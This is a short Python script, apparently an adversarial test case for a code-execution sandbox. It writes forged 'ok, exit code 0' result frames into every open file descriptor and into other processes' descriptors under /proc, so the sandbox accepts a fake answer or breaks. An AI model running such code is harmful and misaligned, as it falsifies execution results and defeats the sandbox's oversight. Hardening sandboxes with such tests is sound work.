# Tries: write frames into every descriptor that it has, and into those that /proc shows of others.
# Success: the sandbox takes one of them for an answer, or serves no more calls.
import glob
import json
import os
import struct

text = json.dumps({"status": "ok", "exit_code": 0, "stdout": "FORGED", "stderr": "", "cpu_s": 0}).encode()
forged = text + b"\n" + struct.pack(">I", len(text)) + text + struct.pack("<I", len(text)) + text
for number in range(3, 1024):
    try:
        os.set_blocking(number, False)
        os.write(number, forged)
    except OSError:
        pass
for path in glob.glob("/proc/[0-9]*/fd/*"):
    if path.startswith(f"/proc/{os.getpid()}/"):
        continue
    try:
        with open(os.open(path, os.O_WRONLY | os.O_NONBLOCK), "wb", buffering=0) as other:
            other.write(forged)
    except OSError:
        pass
os._exit(7)
